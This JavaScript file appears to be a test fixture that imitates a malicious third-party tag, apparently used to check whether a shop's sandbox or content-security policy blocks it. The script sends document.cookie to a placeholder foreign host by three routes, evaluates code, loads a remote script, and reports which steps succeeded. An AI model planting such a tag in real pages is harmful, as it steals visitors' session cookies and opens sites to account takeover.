// @ts-check
/**
 * A hostile tag: sends the page's cookies to whom the shop does not know, evaluates what it was given, loads scripts
 * from elsewhere, and reads what only the visitor may. It tells its own server how far it came.
 */
(async () => {
  const foreign = new URL("{foreign}");
  /** @type {Record<string, string>} */
  const result = { script: "spy" };
  try {
    result["evaluated"] = String(new Function("return 1 + 1")());
  } catch (error) {
    result["evaluated"] = error instanceof Error ? error.name : "refused";
  }
  /** @param {string} name @param {() => Promise<unknown>} act */
  const attempt = async (name, act) => {
    try {
      await act();
      result[name] = "done";
    } catch {
      result[name] = "refused";
    }
  };
  await attempt("fetched", () =>
    fetch(foreign, { method: "POST", mode: "no-cors", body: document.cookie }),
  );
  await attempt("called", async () => {
    const answer = await fetch("/fapi/measured?locale=en-us");
    if (!answer.ok && answer.status !== 204) throw new Error("refused");
  });
  navigator.sendBeacon(foreign, document.cookie);
  new Image().src = `${foreign.href}?${encodeURIComponent(document.cookie)}`;
  const script = document.createElement("script");
  script.src = `${foreign.origin}/tag.js`;
  document.head.appendChild(script);
  await fetch("{origin}/vendors/heard", {
    method: "POST",
    mode: "no-cors",
    body: JSON.stringify(result),
  });
})();
